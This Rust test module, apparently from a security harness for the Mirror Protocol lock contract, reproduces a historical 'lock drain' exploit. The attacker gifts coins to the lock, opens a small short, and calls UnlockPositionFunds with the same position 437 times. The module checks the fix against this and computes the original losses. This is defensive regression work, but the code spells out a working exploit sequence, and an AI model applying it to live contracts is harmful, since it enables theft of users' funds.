//! One lock that is paid out many times.

use cosmwasm_std::{Addr, Decimal, Int128, Uint128};
use mirror_protocol::lock::{ExecuteMsg, Lock};
use mirror_protocol::mint;
use mirror_testing::{number, percent, World};
use terraswap::asset::AssetInfo;

use crate::amounts::coins;
use crate::attacks::attack::Attack;
use crate::attacks::fixtures::{self, MILLION, UNIT};
use crate::attacks::report::{Exposure, Findings};
use crate::attacks::transaction::{base, Transaction};
use crate::attacks::trial::Trial;

pub(super) const ATTACK: Attack = Attack {
    name: "lock drain",
    story:
        "October 2021 to May 2022, about 90 million dollars: a gift to the lock became the lock \
            of a short for 10 coins, and one message named that short 437 times.",
    run,
};

/// The coins that the attacker gives to the lock.
const GIFT: u128 = 100_000 * UNIT;
/// The collateral of the attacker's short.
const COLLATERAL: u128 = 10 * UNIT;
/// How many times the attacker named the same position.
const TIMES: usize = 437;
/// How many positions the lock accepts in one message.
const MOST: usize = 100;
/// How long proceeds are locked, in seconds.
const LOCKUP: u64 = 1_209_600;

fn run() -> anyhow::Result<Findings> {
    let mut trial = prepared()?;
    let (lock, at_stake) = (
        trial.world.at.lock.clone(),
        trial.world.base_balance(&trial.world.at.lock),
    );

    trial.does(Transaction::new().gives(base(GIFT), &lock))?;
    let given = trial.world.base_balance(&lock);
    let idx = shorts(&mut trial)?;
    let sold_for = trial.world.base_balance(&lock) - given;
    let querier = trial.world.chain.app.wrap();
    let locked = Lock(lock.clone()).position_lock_info(&querier, idx)?;
    let locked = locked.locked_amount;
    if locked == sold_for {
        let seen = format!(
            "the short locks the {} coins that its sale was paid, not the gift",
            coins(locked)
        );
        trial.notes("T-32", seen);
    }

    trial.world.chain.pass(LOCKUP);
    trial.tries("T-35", unlocks(&lock, idx, TIMES))?;
    trial.tries("T-31", unlocks(&lock, idx, MOST))?;
    let twice = unlocks(&lock, idx, 1);
    trial.tries("T-31", and(twice, unlocks(&lock, idx, 1)))?;
    let querier = trial.world.chain.app.wrap();
    // If the lock is still there: without a rule it would have been paid already.
    let rest = Lock(lock.clone()).position_lock_info(&querier, idx);
    if rest.is_ok() {
        trial.does(unlocks(&lock, idx, 1))?;
    }

    let attempt = trial.ends(format!(
        "gave the lock 100,000 coins, opened a short for 10, waited two weeks, named it {TIMES} \
         times, then {MOST} times, then in two messages of a transaction"
    ))?;
    let exposure = as_it_was(sold_for, at_stake)?;
    Ok(Findings {
        attempts: vec![attempt],
        exposures: vec![exposure],
    })
}

/// The lock holds proceeds of others, enough to pay everything that was taken in the original.
fn prepared() -> anyhow::Result<Trial> {
    let mut world = World::new().with_asset("mAAPL", "10");
    fixtures::pool(&mut world, "mAAPL", 400 * MILLION);
    world.carol().shorts(100 * MILLION, "mAAPL", percent(200));
    Trial::new(world, &[("mAAPL", fixtures::price("10")?)])
}

fn shorts(trial: &mut Trial) -> anyhow::Result<Uint128> {
    let open = mint::ExecuteMsg::OpenPosition {
        collateral: base(COLLATERAL),
        asset_info: AssetInfo::token(trial.world.token("mAAPL")),
        collateral_ratio: Decimal::percent(200),
        short_params: Some(mint::ShortParams {
            belief_price: None,
            max_spread: None,
        }),
    };
    let mint = trial.world.at.mint.clone();
    let answers = trial.does(Transaction::new().pays(&mint, &open, base(COLLATERAL)))?;
    let answer = answers.first().ok_or(anyhow::anyhow!("no answer"))?;
    Ok(number(answer))
}

fn unlocks(lock: &Addr, idx: Uint128, times: usize) -> Transaction {
    let positions_idx = vec![idx; times];
    Transaction::new().calls(lock, &ExecuteMsg::UnlockPositionFunds { positions_idx })
}

/// The messages of both in one transaction.
fn and(mut first: Transaction, second: Transaction) -> Transaction {
    first.messages.extend(second.messages);
    first
}

/// The gain by the rules of the original with the same figures: all coins above the sum of all
/// locks became the next lock, and each copy in the list was paid as long as there were coins of
/// others.
fn as_it_was(sold_for: Uint128, of_others: Uint128) -> anyhow::Result<Exposure> {
    let record = u128::from(sold_for) + GIFT;
    let paid = (record * TIMES as u128).min(of_others.u128() + record);
    let gained = i128::try_from(paid)? - i128::try_from(GIFT + COLLATERAL)?;
    Ok(Exposure::computed(
        format!(
            "the lock of the original: everything above its sum becomes the next lock, and \
             {TIMES} copies are {TIMES} payments"
        ),
        Int128::new(gained),
    ))
}
